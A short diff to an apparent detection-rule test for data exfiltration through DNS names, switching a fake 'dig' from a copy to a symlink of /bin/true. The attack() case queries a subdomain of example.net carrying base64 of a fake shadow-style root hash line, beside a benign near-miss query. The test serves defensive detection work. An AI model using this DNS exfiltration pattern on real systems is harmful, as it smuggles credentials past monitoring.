@@ -1,10 +1,10 @@
 # rule: Data sent out in a DNS name
 # where: host
 attack() {
-    cp /bin/true dig
+    ln -s /bin/true dig
     ./dig +short cm9vdDokNiRhYmNkZWZnaCRpamtsbW5vcHFyc3R1dnd4.1.t.example.net
 }
 near_miss() {
-    cp /bin/true dig
+    ln -s /bin/true dig
     ./dig +short www.t.example.net
 }
